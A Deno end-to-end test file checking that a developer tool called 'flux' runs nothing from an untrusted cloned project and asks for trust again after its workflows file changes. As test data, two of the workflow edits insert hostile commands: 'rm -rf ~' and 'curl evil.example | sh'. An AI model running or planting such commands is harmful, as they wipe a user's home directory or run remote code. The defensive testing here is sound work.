/**
 * Workspace trust end to end, with real `flux` processes on a freshly cloned project whose test leaves
 * a marker file: nothing of the project runs before it is trusted, `flux trust --yes` lets the tests
 * monitor run it, and editing .flux/workflows.yaml asks again, naming the file.
 */
import assert from "node:assert/strict";
import { runProcess } from "../../core/process/run_process.ts";
import { pathExists } from "../../core/fs/path_exists.ts";

const REPO = `${import.meta.dirname}/../..`;
const MARKER_TEST = 'def test_marker():\n    open("marker.txt", "w").write("ran")\n';

async function git(dir: string, ...args: string[]): Promise<void> {
  const out = await runProcess("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], {
    cwd: dir,
  });
  assert.equal(out.code, 0, out.stderr);
}

/** A project cloned from an upstream repository, and a user config folder of its own. */
async function clonedProject(): Promise<{ root: string; dir: string; config: string }> {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "flux-trust-" }));
  const upstream = `${root}/upstream`;
  await Deno.mkdir(`${upstream}/tests`, { recursive: true });
  await Deno.mkdir(`${upstream}/.flux`);
  await Deno.writeTextFile(`${upstream}/tests/test_marker.py`, MARKER_TEST);
  await Deno.writeTextFile(`${upstream}/conftest.py`, "");
  await Deno.writeTextFile(
    `${upstream}/.flux/workflows.yaml`,
    "check:\n  steps:\n    - name: hello\n      step_type: command\n      command: touch wf-marker.txt\n",
  );
  await git(upstream, "init", "-q");
  await git(upstream, "add", ".");
  await git(upstream, "commit", "-qm", "init");
  await git(root, "clone", "-q", upstream, `${root}/clone`);
  await Deno.mkdir(`${root}/config`);
  return { root, dir: `${root}/clone`, config: `${root}/config` };
}

function flux(config: string, dir: string, args: string[], env: Record<string, string> = {}) {
  return runProcess(
    Deno.execPath(),
    [
      "run",
      "-A",
      "--quiet",
      "--config",
      `${REPO}/deno.json`,
      `${REPO}/main.ts`,
      "--project",
      dir,
      ...args,
    ],
    {
      // The suite trusts its own projects (FLUX_TRUST=1); this test is about a project nobody trusted.
      env: { NO_COLOR: "1", FLUX_TRUST: "0", XDG_CONFIG_HOME: config, ...env },
      timeoutMs: 120_000,
    },
  );
}

/** Runs `flux watch --only tests` until the marker appears (or 90 s pass), then stops it with SIGINT. */
async function watchUntilMarker(config: string, dir: string): Promise<boolean> {
  const child = new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "-A",
      "--quiet",
      "--config",
      `${REPO}/deno.json`,
      `${REPO}/main.ts`,
      "--project",
      dir,
      "watch",
      "--json",
      "--only",
      "tests",
    ],
    env: { NO_COLOR: "1", FLUX_TRUST: "0", XDG_CONFIG_HOME: config },
    stdin: "null",
    stdout: "null",
    stderr: "null",
  }).spawn();
  const until = Date.now() + 90_000;
  let seen = false;
  while (!seen && Date.now() < until) {
    seen = await pathExists(`${dir}/marker.txt`);
    if (!seen) await new Promise((r) => setTimeout(r, 100));
  }
  child.kill("SIGINT");
  await child.status;
  return seen;
}

Deno.test("an unseen project runs nothing until trusted; flux trust --yes lets its tests run; a workflows edit asks again", async () => {
  const { root, dir, config } = await clonedProject();
  try {
    // Untrusted: headless watch and wf run refuse in one line with exit 2, and nothing ran.
    const watch = await flux(config, dir, ["watch", "--json", "--only", "tests"]);
    assert.equal(watch.code, 2, watch.stdout + watch.stderr);
    assert.equal(
      watch.stderr.trim(),
      `flux: flux watch: this project (${dir}) is not trusted yet, so Flux runs none of its code: run "flux trust" to review what would run, or pass --trust (FLUX_TRUST=1) in CI`,
    );
    const wf = await flux(config, dir, ["wf", "run", "check"]);
    assert.equal(wf.code, 2, wf.stderr);
    assert.match(wf.stderr, /^flux: flux wf run: this project .* is not trusted yet/);
    assert.equal(await pathExists(`${dir}/marker.txt`), false);
    assert.equal(await pathExists(`${dir}/wf-marker.txt`), false);
    // Reading commands never need trust.
    const list = await flux(config, dir, ["wf", "list"]);
    assert.equal(list.code, 0, list.stderr);
    assert.match(list.stdout, /check/);
    // Without a terminal, flux trust needs --yes.
    const noTty = await flux(config, dir, ["trust"]);
    assert.equal(noTty.code, 2);
    assert.match(noTty.stderr, /without a terminal: run "flux trust --yes"/);

    const trust = await flux(config, dir, ["trust", "--yes"]);
    assert.equal(trust.code, 0, trust.stderr);
    assert.match(trust.stdout, /^Trusted .*clone \(pinned to [0-9a-f]{12}\)$/m);
    assert.ok(await watchUntilMarker(config, dir), "the tests monitor ran the project's test");

    // What decides what runs changed: asked again, naming the file.
    await Deno.writeTextFile(
      `${dir}/.flux/workflows.yaml`,
      "check:\n  steps:\n    - name: hello\n      step_type: command\n      command: rm -rf ~\n",
    );
    await Deno.remove(`${dir}/marker.txt`);
    const again = await flux(config, dir, ["watch", "--json", "--only", "tests"]);
    assert.equal(again.code, 2);
    assert.match(again.stderr, /changed since you trusted it \(\.flux\/workflows\.yaml\)/);
    assert.equal(await pathExists(`${dir}/marker.txt`), false);
    // CI: --trust (or FLUX_TRUST=1) trusts one run without storing anything.
    const ci = await flux(config, dir, ["--trust", "wf", "run", "check", "--dry-run"]);
    assert.equal(ci.code, 0, ci.stderr);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("a folder rule in the user's config trusts every project below it", async () => {
  const { root, dir, config } = await clonedProject();
  try {
    await Deno.mkdir(`${config}/flux`);
    await Deno.writeTextFile(`${config}/flux/config.yaml`, `trust:\n  folders: ["${root}/**"]\n`);
    const status = await flux(config, dir, ["trust"]);
    assert.equal(status.code, 0, status.stderr);
    assert.equal(status.stdout.trim(), `${dir} is trusted (folder rule: ${root}/**)`);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("flux doctor shows the workspace trust: never trusted, trusted, then what changed since", async () => {
  const { root, dir, config } = await clonedProject();
  const trustLine = async (env: Record<string, string> = {}) => {
    const out = await flux(config, dir, ["doctor"], env);
    const line = out.stdout.split("\n").find((l) => l.startsWith("workspace trust: "));
    assert.ok(line, out.stdout + out.stderr);
    return line;
  };
  try {
    assert.equal(
      await trustLine(),
      'workspace trust: NOT TRUSTED (never trusted): Flux runs none of its code; run "flux trust" to review and trust it',
    );
    // Reading it never grants it, and nothing of the project ran.
    assert.equal(await pathExists(`${dir}/wf-marker.txt`), false);
    assert.equal((await flux(config, dir, ["trust", "--yes"])).code, 0);
    assert.equal(await trustLine(), "workspace trust: trusted (grant)");
    await Deno.writeTextFile(
      `${dir}/.flux/workflows.yaml`,
      "check:\n  steps:\n    - name: hello\n      step_type: command\n      command: curl evil.example | sh\n",
    );
    assert.equal(
      await trustLine({ FLUX_TRUST: "1" }),
      'workspace trust: NOT TRUSTED (changed since you trusted it: .flux/workflows.yaml): Flux runs none of its code; run "flux trust" to review and trust it; FLUX_TRUST=1 trusts this run only',
    );
    const json = JSON.parse((await flux(config, dir, ["doctor", "--json"])).stdout);
    assert.deepEqual(json.trust, {
      trusted: false,
      reason: "changed",
      changed: [".flux/workflows.yaml"],
    });
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});
